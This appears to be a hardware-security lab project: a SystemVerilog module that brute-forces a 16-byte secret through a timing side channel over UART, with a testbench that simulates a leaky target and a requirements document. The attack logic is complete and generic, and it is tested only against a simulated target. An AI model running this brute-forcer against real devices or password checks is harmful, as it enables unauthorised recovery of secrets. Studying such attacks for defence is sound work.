// File: rtl/timing_attack_ctrl.sv
// Timing side-channel brute-forcer: sends 16-byte guesses, keeps the slowest-answered candidate per position.
// Optional measurement timeout is enabled by defining TA_TIMEOUT_EN.
module timing_attack_ctrl #(
  parameter logic [7:0]       CHAR_MIN = 8'h20,
  parameter logic [7:0]       CHAR_MAX = 8'h7E,
  parameter logic [7:0]       PAD_CHAR = 8'h41,
  parameter int unsigned      CNT_W    = 24,
  parameter logic [CNT_W-1:0] TIMEOUT  = 24'd1000000
) (
  input  logic         clk,
  input  logic         rst_n,
  input  logic         start,
  input  logic         tx_ready,
  output logic         tx_valid,
  output logic [7:0]   tx_data,
  input  logic         resp_valid,
  output logic         busy,
  output logic         done,
  output logic [127:0] key,
  output logic [3:0]   pos,
  output logic         timeout_err
);

  typedef enum logic [2:0] {IDLE, SEND, WAIT, EVAL, NEXT, DONE} state_t;

  state_t             state;
  logic [7:0]         cand;
  logic [7:0]         best_char;
  logic [CNT_W-1:0]   best_lat;
  logic [CNT_W-1:0]   latency;
  logic [CNT_W-1:0]   cnt;
  logic [CNT_W-1:0]   cnt_sat;
  logic [3:0]         byte_idx;
  logic [127:0]       key_upd;
  logic               timeout_flag;

  // Guess frame: recovered prefix, then the candidate, then filler.
  function automatic logic [7:0] frame_byte(input logic [127:0] k, input logic [3:0] p,
                                            input logic [7:0] c, input logic [3:0] i);
    if (i < p)       return k[{i, 3'b000} +: 8];
    else if (i == p) return c;
    else             return PAD_CHAR;
  endfunction

  assign cnt_sat = (&cnt) ? cnt : cnt + 1'b1;

  always_comb begin
    key_upd = key;
    key_upd[{pos, 3'b000} +: 8] = best_char;
  end

  assign timeout_err = timeout_flag;

`ifndef TA_TIMEOUT_EN
  logic [CNT_W-1:0] unused_timeout;
  assign unused_timeout = TIMEOUT;
`endif

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      state        <= IDLE;
      cand         <= '0;
      best_char    <= '0;
      best_lat     <= '0;
      latency      <= '0;
      cnt          <= '0;
      byte_idx     <= '0;
      key          <= '0;
      pos          <= '0;
      tx_valid     <= 1'b0;
      tx_data      <= '0;
      busy         <= 1'b0;
      done         <= 1'b0;
      timeout_flag <= 1'b0;
    end else begin
      case (state)
        IDLE, DONE: begin
          if (start) begin
            state        <= SEND;
            pos          <= '0;
            cand         <= CHAR_MIN;
            best_lat     <= '0;
            best_char    <= CHAR_MIN;
            byte_idx     <= '0;
            key          <= '0;
            done         <= 1'b0;
            timeout_flag <= 1'b0;
            busy         <= 1'b1;
            tx_valid     <= 1'b1;
            tx_data      <= CHAR_MIN;
          end
        end

        SEND: begin
          if (tx_valid && tx_ready) begin
            if (byte_idx == 4'd15) begin
              state    <= WAIT;
              tx_valid <= 1'b0;
              cnt      <= '0;
            end else begin
              byte_idx <= byte_idx + 4'd1;
              tx_data  <= frame_byte(key, pos, cand, byte_idx + 4'd1);
            end
          end
        end

        WAIT: begin
          cnt <= cnt_sat;
          if (resp_valid) begin
            latency <= cnt;
            state   <= EVAL;
          end
`ifdef TA_TIMEOUT_EN
          // Abandon on the cycle the counter would reach TIMEOUT: exactly TIMEOUT cycles spent in WAIT.
          else if (cnt_sat == TIMEOUT) begin
            cnt          <= TIMEOUT;
            latency      <= TIMEOUT;
            timeout_flag <= 1'b1;
            state        <= EVAL;
          end
`endif
        end

        EVAL: begin
          if (latency > best_lat) begin
            best_lat  <= latency;
            best_char <= cand;
          end
          if (cand == CHAR_MAX) begin
            state <= NEXT;
          end else begin
            cand     <= cand + 8'd1;
            byte_idx <= '0;
            state    <= SEND;
            tx_valid <= 1'b1;
            tx_data  <= frame_byte(key, pos, cand + 8'd1, 4'd0);
          end
        end

        NEXT: begin
          key <= key_upd;
          if (pos == 4'd15) begin
            state <= DONE;
            done  <= 1'b1;
            busy  <= 1'b0;
          end else begin
            pos       <= pos + 4'd1;
            cand      <= CHAR_MIN;
            best_lat  <= '0;
            best_char <= CHAR_MIN;
            byte_idx  <= '0;
            state     <= SEND;
            tx_valid  <= 1'b1;
            tx_data   <= frame_byte(key_upd, pos + 4'd1, CHAR_MIN, 4'd0);
          end
        end

        default: state <= IDLE;
      endcase
    end
  end

endmodule

// File: tb/tb_timing_attack_ctrl.sv
// Directed bench for timing_attack_ctrl: frame contents and stalls, wait/timeout, async reset, full attacks.
`timescale 1ns/1ps
module tb_timing_attack_ctrl;

  localparam logic [127:0] SECRET_STR = "FPGA_brute_force";
  localparam int           GUESSES    = 16 * 95;

  logic clk = 1'b0;
  always #5 clk = ~clk;

  logic         rst_n;
  logic         start_a, tx_ready_a, resp_man_a, resp_auto_a, resp_valid_a;
  logic         tx_valid_a, busy_a, done_a, timeout_err_a;
  logic [7:0]   tx_data_a;
  logic [127:0] key_a;
  logic [3:0]   pos_a;
  logic         start_b, tx_ready_b, resp_auto_b;
  logic         tx_valid_b, busy_b, done_b, timeout_err_b;
  logic [7:0]   tx_data_b;
  logic [127:0] key_b;
  logic [3:0]   pos_b;

  logic [7:0] sec [16];
  bit         resp_en = 1'b0;
  int         frames_a = 0;
  int         frames_b = 0;
  int         n_checks = 0;
  int         n_errors = 0;

  assign resp_valid_a = resp_man_a | resp_auto_a;

  timing_attack_ctrl #(.TIMEOUT(24'd100)) u_a (
    .clk(clk), .rst_n(rst_n), .start(start_a), .tx_ready(tx_ready_a),
    .tx_valid(tx_valid_a), .tx_data(tx_data_a), .resp_valid(resp_valid_a),
    .busy(busy_a), .done(done_a), .key(key_a), .pos(pos_a), .timeout_err(timeout_err_a)
  );

  timing_attack_ctrl #(.TIMEOUT(24'd100)) u_b (
    .clk(clk), .rst_n(rst_n), .start(start_b), .tx_ready(tx_ready_b),
    .tx_valid(tx_valid_b), .tx_data(tx_data_b), .resp_valid(resp_auto_b),
    .busy(busy_b), .done(done_b), .key(key_b), .pos(pos_b), .timeout_err(timeout_err_b)
  );

  task automatic check(input string tag, input logic [127:0] got, input logic [127:0] exp);
    n_checks++;
    if (got !== exp) begin
      n_errors++;
      $display("FAIL %s: got %0h expected %0h", tag, got, exp);
    end else begin
      $display("ok   %s: %0h", tag, got);
    end
  endtask

  // Target model for u_a: slow answer (50) when the prefix up to the position under test matches.
  initial begin : responder_a
    logic [7:0] fr [16];
    int nb, p;
    bit match;
    nb = 0;
    resp_auto_a = 1'b0;
    forever begin
      @(negedge clk);
      if (resp_en && tx_valid_a && tx_ready_a) begin
        fr[nb] = tx_data_a;
        nb++;
        if (nb == 16) begin
          nb = 0;
          p = frames_a / 95;
          match = 1'b1;
          for (int i = 0; i < 16; i++) if (i <= p && fr[i] != sec[i]) match = 1'b0;
          frames_a++;
          repeat ((match ? 50 : 10) + 1) @(negedge clk);
          resp_auto_a = 1'b1;
          @(negedge clk);
          resp_auto_a = 1'b0;
        end
      end
    end
  end

  // Target model for u_b: every guess answered with latency 10.
  initial begin : responder_b
    int nb;
    nb = 0;
    resp_auto_b = 1'b0;
    forever begin
      @(negedge clk);
      if (resp_en && tx_valid_b && tx_ready_b) begin
        nb++;
        if (nb == 16) begin
          nb = 0;
          frames_b++;
          repeat (11) @(negedge clk);
          resp_auto_b = 1'b1;
          @(negedge clk);
          resp_auto_b = 1'b0;
        end
      end
    end
  end

  initial begin : main
    logic [7:0]   got [16];
    logic [7:0]   prev_data;
    logic [127:0] exp_key;
    int n, stall_bad, waited;
    bit injected, prev_stall;

    for (int i = 0; i < 16; i++) sec[i] = SECRET_STR[8*(15-i) +: 8];
    rst_n = 1'b0; start_a = 1'b0; tx_ready_a = 1'b0; resp_man_a = 1'b0;
    start_b = 1'b0; tx_ready_b = 1'b0;

    repeat (3) @(negedge clk);
    check("rst_tx_valid", tx_valid_a, 0);
    check("rst_tx_data", tx_data_a, 0);
    check("rst_busy", busy_a, 0);
    check("rst_done", done_a, 0);
    check("rst_key", key_a, 0);
    check("rst_pos", pos_a, 0);
    check("rst_timeout_err", timeout_err_a, 0);

    @(posedge clk); #1 rst_n = 1'b1;
    @(posedge clk); #1 start_a = 1'b1;

    // First guess with random back-pressure; start and resp_valid poked mid-frame.
    n = 0; injected = 1'b0; prev_stall = 1'b0; stall_bad = 0; prev_data = '0;
    for (int cyc = 0; cyc < 400 && n < 16; cyc++) begin
      @(posedge clk); #1;
      tx_ready_a = 1'($urandom_range(0, 1));
      if (n == 5 && !injected) begin
        start_a = 1'b1; resp_man_a = 1'b1; injected = 1'b1;
      end else begin
        start_a = 1'b0; resp_man_a = 1'b0;
      end
      @(negedge clk);
      if (prev_stall && tx_data_a !== prev_data) stall_bad++;
      prev_stall = tx_valid_a && !tx_ready_a;
      prev_data  = tx_data_a;
      if (tx_valid_a && tx_ready_a) begin
        got[n] = tx_data_a;
        n++;
      end
    end
    @(posedge clk); #1 tx_ready_a = 1'b0; start_a = 1'b0; resp_man_a = 1'b0;
    check("frame_len", n, 16);
    for (int i = 0; i < 16; i++)
      check($sformatf("frame_byte%0d", i), got[i], (i == 0) ? 8'h20 : 8'h41);
    check("stall_data_stable", stall_bad, 0);
    @(negedge clk);
    check("wait_busy", busy_a, 1);
    check("wait_tx_valid", tx_valid_a, 0);
    check("wait_pos", pos_a, 0);

    repeat (150) @(negedge clk);
`ifdef TA_TIMEOUT_EN
    check("timeout_err_set", timeout_err_a, 1);
`else
    check("wait_hold_tx_valid", tx_valid_a, 0);
    check("wait_hold_busy", busy_a, 1);
    check("timeout_err_tied", timeout_err_a, 0);
    @(posedge clk); #1 resp_man_a = 1'b1;
    @(posedge clk); #1 resp_man_a = 1'b0;
`endif
    waited = 0;
    while (!tx_valid_a && waited < 20) begin
      @(negedge clk);
      waited++;
    end
    check("next_guess_valid", tx_valid_a, 1);
    check("next_guess_byte0", tx_data_a, 8'h21);
    check("next_guess_pos", pos_a, 0);

    // Asynchronous reset in the middle of a guess.
    @(posedge clk); #2 rst_n = 1'b0; #1;
    check("arst_tx_valid", tx_valid_a, 0);
    check("arst_tx_data", tx_data_a, 0);
    check("arst_busy", busy_a, 0);
    check("arst_done", done_a, 0);
    check("arst_key", key_a, 0);
    check("arst_pos", pos_a, 0);
    check("arst_timeout_err", timeout_err_a, 0);
    repeat (2) @(negedge clk);
    @(posedge clk); #1 rst_n = 1'b1;
    repeat (3) @(negedge clk);
    check("idle_busy", busy_a, 0);
    check("idle_tx_valid", tx_valid_a, 0);
    check("idle_done", done_a, 0);

    // Full attacks: u_a against the secret, u_b with constant latency.
    resp_en = 1'b1; tx_ready_a = 1'b1; tx_ready_b = 1'b1;
    @(posedge clk); #1 start_a = 1'b1; start_b = 1'b1;
    @(posedge clk); #1 start_a = 1'b0; start_b = 1'b0;
    waited = 0;
    while (!(done_a && done_b) && waited < 60000) begin
      @(negedge clk);
      waited++;
    end
    for (int i = 0; i < 16; i++) exp_key[8*i +: 8] = sec[i];
    check("secret_done", done_a, 1);
    check("secret_key", key_a, exp_key);
    check("secret_guesses", frames_a, GUESSES);
    check("secret_busy", busy_a, 0);
    check("secret_timeout_err", timeout_err_a, 0);
    check("ties_done", done_b, 1);
    check("ties_key", key_b, {16{8'h20}});
    check("ties_guesses", frames_b, GUESSES);
    repeat (5) @(negedge clk);
    check("done_hold", done_a, 1);
    check("key_hold", key_a, exp_key);

    $display("Simulation finished: %0d checks, %0d errors", n_checks, n_errors);
    $finish;
  end

endmodule

// File: doc/timing_attack_ctrl.md
TIMING_ATTACK_CTRL -- requirements
Module: timing_attack_ctrl

Interface
REQ-001 Parameter CHAR_MIN, default 8'h20: first candidate byte tried at each position.
REQ-002 Parameter CHAR_MAX, default 8'h7E: last candidate byte tried at each position; CHAR_MAX >= CHAR_MIN.
REQ-003 Parameter PAD_CHAR, default 8'h41: filler byte for positions after the one under test.
REQ-004 Parameter CNT_W, default 24: latency counter width.
REQ-005 Parameter TIMEOUT, default 24'd1000000: cycles in WAIT before a measurement is abandoned (TA_TIMEOUT_EN only).
REQ-006 clk  input  1  sole clock; all logic on rising edge.
REQ-007 rst_n  input  1  asynchronous, active-low reset.
REQ-008 start  input  1  one-cycle request to begin a full 16-position attack.
REQ-009 tx_ready  input  1  UART transmitter can accept a byte.
REQ-010 tx_valid  output  1  tx_data holds a byte to send.
REQ-011 tx_data  output  8  guess byte.
REQ-012 resp_valid  input  1  one-cycle pulse from the 16-char response counter: target reply complete.
REQ-013 busy  output  1  high in every state except IDLE and DONE.
REQ-014 done  output  1  high while in DONE.
REQ-015 key  output  128  recovered prefix; byte i at key[8i+7:8i].
REQ-016 pos  output  4  position currently under test.
REQ-017 timeout_err  output  1  sticky flag: at least one measurement timed out.

Function
REQ-018 FSM states IDLE, SEND, WAIT, EVAL, NEXT, DONE.
REQ-019 IDLE/DONE: start=1 -> SEND with pos=0, cand=CHAR_MIN, best_lat=0, best_char=CHAR_MIN, byte index=0, key cleared, done=0, timeout_err=0; start ignored in all other states.
REQ-020 SEND: byte i (0..15) = key byte i if i<pos, cand if i==pos, PAD_CHAR if i>pos; tx_valid=1.
REQ-021 A byte transfers only when tx_valid and tx_ready are both high in one cycle; tx_data is held stable until then.
REQ-022 After byte 15 transfers -> WAIT next cycle, latency counter cleared to 0, tx_valid=0.
REQ-023 WAIT: counter increments once per cycle, saturates at all-ones; resp_valid=1 -> latency = counter value, -> EVAL.
REQ-024 resp_valid outside WAIT is ignored.
REQ-025 EVAL (one cycle): if latency > best_lat (strict) then best_lat=latency, best_char=cand; ties keep the earlier candidate.
REQ-026 EVAL: cand==CHAR_MAX -> NEXT; else cand=cand+1, byte index=0 -> SEND.
REQ-027 NEXT (one cycle): key byte pos=best_char; pos==15 -> DONE; else pos+1, cand=CHAR_MIN, best_lat=0, best_char=CHAR_MIN -> SEND.
REQ-028 DONE: done=1 and key held until start or reset.
REQ-029 Each position tests exactly CHAR_MAX-CHAR_MIN+1 candidates (95 at defaults).

Reset
REQ-030 rst_n=0 immediately forces IDLE; tx_valid, tx_data, busy, done, key, pos, timeout_err, counters and best registers all 0.
REQ-031 Reset mid-SEND or mid-WAIT abandons the attack; no partial key is retained.

Configuration
REQ-032 Macro TA_TIMEOUT_EN defined: counter reaching TIMEOUT in WAIT sets latency=TIMEOUT, timeout_err=1, -> EVAL.
REQ-033 Macro TA_TIMEOUT_EN undefined: WAIT exits only on resp_valid; timeout_err tied 0; TIMEOUT unused.

Verification
REQ-034 Assert rst_n=0 mid-operation -> all outputs 0 in the same cycle; FSM in IDLE after release.
REQ-035 start, tx_ready=1, responder latency 10 for every guess -> all ties; done=1 with key = sixteen 0x20 after 16*95 guesses.
REQ-036 Responder latency 50 when guess bytes 0..pos match secret "FPGA_brute_force", else 10 -> done=1, key = secret.
REQ-037 Random tx_ready stalls at pos 0, cand 0x20 -> transferred sequence 0x20 then fifteen 0x41; tx_data never changes while stalled.
REQ-038 TA_TIMEOUT_EN, TIMEOUT=100, no resp_valid -> EVAL after 100 WAIT cycles, timeout_err=1; without macro FSM remains in WAIT.
REQ-039 start pulsed while busy, and resp_valid pulsed during SEND -> no effect on state, pos or best registers.
